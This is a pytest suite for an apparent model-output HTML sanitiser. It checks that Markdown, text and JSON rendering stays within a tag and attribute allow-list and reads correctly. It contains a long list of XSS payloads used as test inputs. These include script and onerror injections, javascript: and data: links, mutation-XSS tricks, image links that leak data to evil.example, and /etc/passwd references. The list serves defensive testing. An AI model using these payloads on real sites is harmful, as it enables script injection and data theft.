"""Nothing of a model's text gets out of the allow-list; it reads as it was meant."""

from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ollama_magic.rendering import safe_html
from ollama_magic.rendering.highlight import CLASSES, PRE_STYLE
from ollama_magic.rendering.math_text import MATH_CLASS
from ollama_magic.rendering.safe_html import json_html, markdown_html, text_html

_TAGS = """
b caption i kbd s sub sup u
a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong table tbody
td th thead tr ul
"""
TAGS = set(_TAGS.split())
VALUES = {
    ("div", "class"): {"tex2jax_ignore mathjax_ignore"},
    ("span", "class"): {*CLASSES, MATH_CLASS},
    ("pre", "class"): {"highlight"},
    ("pre", "style"): {PRE_STYLE, safe_html.TEXT_STYLE},
    ("a", "rel"): {"noopener noreferrer nofollow"},
}
CELL_STYLES = {f"text-align:{side}" for side in ("left", "center", "right")}


def violations(html: str) -> list[str]:
    """Say what a browser would find in a page that may not be there."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    found = []
    for element in tree.iter():
        if element is tree:
            continue
        if element.tag not in TAGS:
            found.append(f"tag {element.tag}")
        for name, value in element.attrib.items():
            if not is_allowed(element.tag, name, value):
                found.append(f"{element.tag} {name}={value}")
    return found


def is_allowed(tag: str, name: str, value: str) -> bool:
    if (tag, name) == ("a", "href"):
        return urlsplit(value).scheme in {"http", "https", "mailto"}
    if (tag, name) == ("ol", "start"):
        return value.isdigit()
    if (tag, name) == ("a", "title"):
        return True
    if tag in {"td", "th"} and name == "style":
        return value in CELL_STYLES
    return value in VALUES.get((tag, name), set())


def text_of(html: str) -> str:
    return "".join(html5lib.parseFragment(html).itertext())


SCRIPT = "<script>alert(1)</script>"
HOSTILE = [
    SCRIPT,
    f"text {SCRIPT} text",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=a><button>go</button></form>",
    "<button data-commandlinker-command='x'>go</button>",
    "<div style='position:fixed;inset:0'>over it</div>",
    "<div id=jp-main name=x data-x=1>clobber</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <b> --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<x onclick=alert(1) style=x>custom</x>",
    "<template><img src=x onerror=alert(1)></template>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    '<p title="</p><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](command:workbench.action.quit)",
    "[x](vscode://file/etc)",
    "[x](//evil.example/)",
    "[x](/lab?reset)",
    "[x](#jp-main)",
    '[x](http://a.example/" onmouseover="alert(1))',
    "[x](http://a.example 'title\" onmouseover=alert(1) x=\"')",
    "[x](http://a.example){onclick=alert(1) style=x}",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: javascript:alert(1) 'title'",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][r]\n\n[r]: http://evil.example/?q=secret",
    "![x]\n\n[x]: http://evil.example/?q=secret",
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    '![x" onerror="alert(1)](http://evil.example/a.png)',
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    'https://a.example/"onclick=alert(1)',
    "https://a.example/<script>alert(1)</script>",
    '<a@b.example" onclick=alert(1)>',
    f"`{SCRIPT}`",
    f"``{SCRIPT}",
    f"    {SCRIPT}",
    f"```\n{SCRIPT}\n```",
    f"```html\n{SCRIPT}\n```",
    f"```{SCRIPT}\nx\n```",
    '```" onclick=alert(1) x="\nx\n```',
    "```{.python onclick=alert(1) style=position:fixed}\nx\n```",
    "``` { .x #jp-main data-x=1 }\nx\n```",
    f"~~~html\n{SCRIPT}",
    f"- {SCRIPT}\n  - <img src=x onerror=alert(1)>",
    f"- ```\n  {SCRIPT}\n  ```",
    f"> {SCRIPT}\n> > [x](javascript:alert(1))",
    f"| a | b |\n|---|---|\n| {SCRIPT} | [x](javascript:alert(1)) |",
    "| a<br onclick=alert(1)> |\n|---|\n| <br/onclick=alert(1)> |",
    '| a |\n|:--" onclick=alert(1)|\n| b |',
    f"# {SCRIPT} {{#jp-main onclick=alert(1)}}",
    "text\n{: onclick=alert(1) }",
    f"$${SCRIPT}$$",
    f"$x{SCRIPT}$",
    f"\\({SCRIPT}\\) \\[{SCRIPT}\\]",
    "$$\n</span><img src=x onerror=alert(1)>\n$$",
    "$\\href{javascript:alert(1)}{x}$",
    "\\begin{x}<img src=x onerror=alert(1)>\\end{x}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;script>",
    "\ud800<script>alert(1)</script>\udfff",
    "<\x00script>alert(1)</script>",
    "<\u200bimg src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "*<img src=x onerror=*alert(1)*>*",
    "**[x](javascript:`alert`(1))**",
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "[x](http://a.example/`<img src=x onerror=alert(1)>`)",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<pre>\n<img src=x onerror=alert(1)>\n</pre>",
    "*[x]: <img src=x onerror=alert(1)>\n\nx",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[TOC]\n\n!!! note\n    <img src=x onerror=alert(1)>",
    "--8<-- '/etc/passwd'",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_inside_the_allow_list(text):
    for made in (markdown_html(text), text_html(text), json_html(text)):
        assert violations(made) == []
    nested = f"- a\n  - {text}\n\n> {text}\n\n|a|\n|-|\n|{text}|"
    assert violations(markdown_html(nested)) == []


def test_a_violation_would_be_seen():
    assert violations("<div><img src=x></div>") == ["tag img", "img src=x"]
    assert violations("<a href='javascript:x'>x</a>")


_PARTS = r"""
< > " ' ` ``` [ ]( ) ! javascript: <script> <img·src=x·onerror=y> $ $$ \( -· >· |
&#60; & { } * _ ···· http:// : a· ]: [a] <!-- -->
"""
PARTS = [part.replace("·", " ") for part in _PARTS.split()]
PARTS += ["\n", "\n|-|\n", "\x02", "\x03", "\x1b", "\u202e", "\ud800"]


@given(
    st.text(max_size=60) | st.lists(st.sampled_from(PARTS), max_size=40).map("".join)
)
@settings(max_examples=300)
def test_any_text_stays_inside_the_allow_list(text):
    made = markdown_html(text)
    assert violations(made) == []
    assert violations(safe_html.sanitised(made)) == []


@given(st.text(max_size=80))
def test_plain_text_is_shown_to_the_character(text):
    shown = safe_html.visible_text(text)
    assert text_of(text_html(text)) == shown


# -- reads as it was meant ------------------------------------------------------


def body(text: str) -> str:
    return markdown_html(text).removeprefix(safe_html.page_html("")[:-6])[:-6]


READS = {
    "raw HTML": ("a <b>x</b>", "<p>a &lt;b&gt;x&lt;/b&gt;</p>"),
    "struck": ("~~a~~ H~2~O", "<p><del>a</del> H~2~O</p>"),
    "tasks": ("- [ ] a\n- [x] b", "<ul>\n<li>☐ a</li>\n<li>☑ b</li>\n</ul>"),
    "start of a list": ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
    "two spaces": (
        "- a\n  - b\n- c",
        "<ul>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n<li>c</li>\n</ul>",
    ),
    "three spaces": (
        "1) a\n   - b\n2) c",
        "<ol>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n<li>c</li>\n</ol>",
    ),
    "list after text": ("text:\n- a", "<p>text:</p><ul>\n<li>a</li>\n</ul>"),
    "no heading": ("#include <x>", "<p>#include &lt;x&gt;</p>"),
    "nested quote": (
        "> a\n> > b",
        "<blockquote>\n<p>a</p>\n<blockquote>\n<p>b</p>\n</blockquote>\n</blockquote>",
    ),
    "escaped dollar": ("\\$5", "<p>$5</p>"),
    "hard break": ("a\\\nb", "<p>a<br>\nb</p>"),
    "link without a scheme": ("[x](javascript:y)", None),
    "code span": ("`$x$ <b>`", "<p><code>$x$ &lt;b&gt;</code></p>"),
    "escape": ("\x1b[31mred", "<p>␛[31mred</p>"),
    "bidi": ("a\u202eb\U000e0041c", "<p>abc</p>"),
}


@pytest.mark.parametrize(("text", "html"), READS.values(), ids=READS.keys())
def test_markdown_reads_as_models_mean_it(text, html):
    if html is None:
        assert "href" not in body(text)
    else:
        assert body(text) == html


MATH = ["$x$", "$a_1 * b$", "$$\na < b\n$$", "\\(a*b*c\\)", "\\[\nx\n\\]", "the $n$th"]
NOT_MATH = ["costs $5 and $10", "$5-$10", "US$3 or A$4", "`$x$`", "$HOME/$USER"]
NOT_MATH += [
    "5$ and 6$",
    "```\n$x$\n```",
    "    \\(x\\)",
    "$5 per month and 3$",
    "\\$x\\$",
]


@pytest.mark.parametrize("text", MATH)
def test_math_is_marked_for_mathjax_and_left_alone(text):
    made = body(text)
    assert made.count(f'class="{MATH_CLASS}"') == 1
    assert "<em>" not in made


@pytest.mark.parametrize("text", NOT_MATH)
def test_dollars_and_code_are_not_math(text):
    assert MATH_CLASS not in body(text)


def test_mathjax_is_to_ignore_all_but_what_is_marked():
    assert markdown_html("$5").startswith('<div class="tex2jax_ignore mathjax_ignore">')


def test_an_image_becomes_a_link_that_shows_its_address():
    made = body("![cat](http://a.example/c.png)")
    assert "<img" not in made
    assert "[image: cat – http://a.example/c.png]</a>" in made


def test_a_link_that_names_another_host_is_told():
    assert body("[bank.example](http://evil.example/x)").endswith(
        "</a> (evil.example)</p>"
    )
    assert "(" not in body("[www.bank.example/login](https://bank.example/login)")


def test_bare_addresses_become_links_without_the_full_stop():
    assert '<a href="https://a.example/x_y?z=1"' in body(
        "See https://a.example/x_y?z=1."
    )


def test_table_has_alignment_and_breaks_in_cells():
    made = body("| a | b |\n|:-:|--:|\n| x<br>y | **z** |")
    assert '<td style="text-align:center">x<br>' in made
    assert '<td style="text-align:right"><strong>z</strong></td>' in made


def test_fence_in_a_list_is_highlighted_and_the_list_goes_on():
    made = body("1. a\n   ```python\n   def f():\n\n       pass\n   ```\n2. b")
    assert made.count("<ol") == 1
    assert '<span class="k">def </span>f():\n\n    <span class="k">pass' in made


def test_code_of_an_unknown_language_is_shown_plain():
    assert "a &lt; b\n</pre>" in body("```no-such-language\na < b\n```")


def test_references_reach_all_blocks():
    assert 'href="http://a.example/"' in body(
        "[x][1]\n\ntext\n\n[1]: http://a.example/"
    )


# -- never fails, never takes for ever ----------------------------------------------

RUNS = ["[", "![", "[a](", "[a][", "> ", ">", "`", "*", "**a ", "_a _", "<", "|", "- "]
RUNS += [" ", "$", "\\(", "\\[\n", "$$\n", "&", "~~a ", "a\n: b\n", "<!--", "```\n"]
RUNS += ["http://a ", "***a", "[x]: ", "- ```\n", "> - ", "(", "{", "\t", "<div>", "#"]


@pytest.mark.parametrize("run", RUNS)
def test_long_runs_are_shown_completely(run):
    """Each takes well under two seconds; Python-Markdown alone takes 46 for some."""
    text = run * (20_000 // len(run))
    made = markdown_html(text + "\n\nthe end")
    assert "the end" in made
    assert violations(made) == []


def test_deep_lists_are_shown_completely():
    text = "".join("  " * depth + f"- item{depth}\n" for depth in range(100))
    shown = text_of(markdown_html(text))
    assert all(f"item{depth}\n" in shown for depth in range(100))


def test_a_block_too_costly_for_the_parser_is_shown_as_text():
    assert f'<pre style="{safe_html.TEXT_STYLE}">[[[' in markdown_html("[" * 8000)


def test_a_fault_of_the_parser_shows_the_text(monkeypatch):
    def fail(*_):
        raise RecursionError

    monkeypatch.setattr(safe_html, "_converted", fail)
    assert "**never seen** &lt;b&gt;</pre>" in markdown_html("**never seen** <b>")


def test_a_giant_reply_is_shown_as_text():
    made = markdown_html("- **a**\n" * 200_000)
    assert made.count("<pre") == 1
    assert "- **a**" in made
